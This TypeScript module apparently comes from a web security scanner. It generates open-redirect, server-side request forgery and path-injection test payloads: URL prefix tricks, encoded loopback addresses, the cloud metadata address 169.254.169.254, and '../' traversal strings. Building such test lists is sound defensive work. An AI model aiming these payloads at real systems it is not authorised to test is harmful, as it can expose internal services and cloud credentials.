import type { Aim } from "./aim.ts";
import { sentences } from "./grammar.ts";

/** Where a server waits inside of the sandbox, on both loopback addresses. */
export const CANARY_PORT = 20_009;

export function redirectPayloads({ mark }: Aim): string[] {
  return [
    ...sentences(
      ["https://", "//", "/\\", "\\", "https:", "///", "/\t/", "HTTPS://", "https://localhost@", " https://", "/%09/"],
      mark,
      ".example/",
    ),
    `https://${mark}.example/?localhost`,
    `https://localhost.${mark}.example/`,
  ];
}

/** Addresses of the machine itself, of its network and of the cloud's metadata, in the ways they are written. */
export function requestPayloads({ mark }: Aim): string[] {
  const hosts = [
    `127.0.0.1:${CANARY_PORT}`,
    `localhost:${CANARY_PORT}`,
    "169.254.169.254",
    `[::1]:${CANARY_PORT}`,
    "10.0.0.1",
    `2130706433:${CANARY_PORT}`,
    `0.0.0.0:${CANARY_PORT}`,
    `example.com@127.0.0.1:${CANARY_PORT}`,
  ];
  return [
    ...sentences("http://", hosts, `/${mark}`),
    ...sentences(["http://", "https://"], `${mark}.internal.example/`),
    ...sentences(
      "http://",
      ["0x7f000001", "127.1", "[::ffff:127.0.0.1]"].map((host) => `${host}:${CANARY_PORT}`),
      `/${mark}`,
    ),
  ];
}

/** What ends a host name or a path segment, or leads out of it: for a parameter that becomes one part of an address. */
export function partPayloads({ mark }: Aim): string[] {
  return [
    ...sentences(`${mark}.example`, ["/", "#", "?", "\\\\", ":80/"]),
    `a@${mark}.example`,
    `a@${mark}.example/`,
    ...sentences(["../../", "x/../../../"], mark),
    ...sentences("x", ["?", "#", "/", "&"], `${mark}=1`),
    `//${mark}.example/`,
  ];
}
